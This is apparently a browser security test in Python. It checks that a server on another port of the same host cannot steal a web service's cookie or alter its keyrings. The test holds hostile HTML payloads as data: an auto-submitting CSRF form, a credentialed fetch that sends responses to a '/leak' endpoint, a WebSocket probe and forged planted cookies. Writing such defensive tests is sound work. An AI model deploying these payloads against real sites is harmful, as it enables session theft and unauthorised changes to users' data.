"""A program on another port of the same host gets nothing of the browser's, and changes nothing.

Browsers send a cookie to every port of its host. So the pages' cookie lies below a secret path, and
what comes from another port is refused by what browsers say of where a request comes from.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from playwright.sync_api import Browser, Page

from tests.browser.conftest import visiting
from tests.support.service import Service
from tests.support.store import new_store

DEFINITION = {"type": "object", "properties": {"name": {"type": "string"}}}


class OtherPort:
    """A web server of somebody else's on this machine; it remembers what browsers sent."""

    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        self.cookies_to_plant: list[str] = []
        self.received: list[str] = []
        other = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                other.received.append(f"{self.path}\n{self.headers}")
                body = other.pages.get(self.path.partition("?")[0], "<h1>other</h1>").encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                for cookie in other.cookies_to_plant:
                    self.send_header("Set-Cookie", cookie)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: Any) -> None: ...

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        # Browsers open connections ahead, and say nothing on them.
        self._server.daemon_threads = True

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._server.server_address[1]}"


@contextmanager
def other_port() -> Iterator[OtherPort]:
    other = OtherPort()
    thread = threading.Thread(target=other._server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    try:
        yield other
    finally:
        other._server.shutdown()
        other._server.server_close()
        thread.join()


def keyring_files(site: Service) -> dict[str, bytes]:
    folder: Path = site.data_dir / "proxy" / "keyrings"
    return {path.name: path.read_bytes() for path in folder.iterdir()}


def secrets_of(page: Page) -> list[str]:
    """What the page's cookie holds, in parts: device, session, CSRF token."""
    (cookie,) = (cooky for cooky in page.context.cookies() if cooky["name"].startswith("ers_"))
    return [part for part in cookie["value"].split(".") if part]


def test_another_port_receives_no_cookie_and_changes_nothing(
    chromium: Browser, site: Service
) -> None:
    store = new_store(site, DEFINITION)
    store.ingest([{"name": "Ada"}])
    with visiting(chromium, site, quiet=False) as visitor, other_port() as other:
        visitor.log_in(store.account)
        page = visitor.page
        secrets = secrets_of(page)
        assert len(secrets) == 3
        at, before = visitor.below(""), keyring_files(site)

        # Visited by a link, from a page of ours and by itself; it frames, fetches and posts.
        attacks = {
            "frame": f"<iframe src='{site.proxy_url}{at}/keyring/'></iframe>",
            "image": f"<img src='{site.proxy_url}{at}/api/keyring/'>",
            "script": f"<script src='{site.proxy_url}{at}/api/keyring/'></script>",
            "form": f"<form id=f method=post action='{site.proxy_url}{at}/keyring/'>"
            "<input name=do value=rotate></form><script>f.submit()</script>",
            "fetch": "<script>for (const path of ['/api/keyring/backup/', '/api/keyring/rotate/'])"
            f" fetch('{site.proxy_url}{at}' + path, {{method: 'POST', credentials: 'include',"
            " body: '{}'}).then((r) => r.text()).then((t) => fetch('/leak?' + btoa(t)))"
            ".catch(() => {})</script>",
            "socket": f"<script>new WebSocket('{site.proxy_url.replace('http', 'ws')}{at}"
            "/api/ws/jobs/0/').onopen = () => fetch('/leak?socket')</script>",
        }
        other.pages = {f"/{name}": html for name, html in attacks.items()}
        port = site.proxy_url.rpartition(":")[2]
        other.cookies_to_plant = [
            f"ers_{port}=planted; Path=/",
            f"ers_{port}=ersd1_AAAAAAAA_{'A' * 43}.x.y; Path=/",
            "sessionid=planted; Path=/",
        ]
        for name in attacks:
            page.goto(f"{other.url}/{name}", wait_until="load")
            page.wait_for_timeout(400)  # what it fetches, or is refused, is not waited for
        for sent in other.received:
            assert not any(secret in sent for secret in secrets)
            assert at not in sent
            assert "/leak" not in sent
        assert keyring_files(site) == before

        # What it has planted counts for nothing: the page is whose it was.
        visitor.at = at
        visitor.go("/account/")
        assert store.account.email in page.locator("main").inner_text()
